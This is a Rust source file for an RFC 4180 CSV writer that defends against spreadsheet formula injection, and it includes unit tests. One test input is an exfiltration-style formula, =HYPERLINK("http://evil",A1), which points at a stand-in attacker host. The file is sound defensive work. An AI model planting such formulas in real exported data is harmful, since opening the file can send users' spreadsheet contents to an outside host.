//! Comma-separated values (RFC 4180), that do no harm in a spreadsheet.

/// Writes a row.
pub(super) fn row<'c>(cells: impl IntoIterator<Item = &'c str>, out: &mut String) {
    for (index, text) in cells.into_iter().enumerate() {
        if index > 0 {
            out.push(',');
        }
        cell(text, out);
    }
    out.push_str("\r\n");
}

/// A spreadsheet takes what begins with one of these for a formula, which may
/// send what stands around it elsewhere. An apostrophe before it makes it text.
fn begins_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])
}

fn cell(text: &str, out: &mut String) {
    let harmless = if begins_formula(text) { "'" } else { "" };
    if text.contains(['"', ',', '\r', '\n']) {
        out.push('"');
        out.push_str(harmless);
        out.push_str(&text.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(harmless);
        out.push_str(text);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(cells: &[&str]) -> String {
        let mut out = String::new();
        row(cells.iter().copied(), &mut out);
        out
    }

    #[test]
    fn cells_are_quoted_where_they_have_to_be() {
        assert_eq!(written(&["a", "", "b c"]), "a,,b c\r\n");
        assert_eq!(
            written(&["a,b", "c\"d", "e\nf"]),
            "\"a,b\",\"c\"\"d\",\"e\nf\"\r\n"
        );
    }

    #[test]
    fn no_cell_is_a_formula() {
        for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "＝1"] {
            assert_eq!(written(&[text]), format!("'{text}\r\n"), "{text:?}");
        }
        assert_eq!(
            written(&["=HYPERLINK(\"http://evil\",A1)"]),
            "\"'=HYPERLINK(\"\"http://evil\"\",A1)\"\r\n"
        );
        assert_eq!(written(&["a=1", "1-2"]), "a=1,1-2\r\n");
    }
}
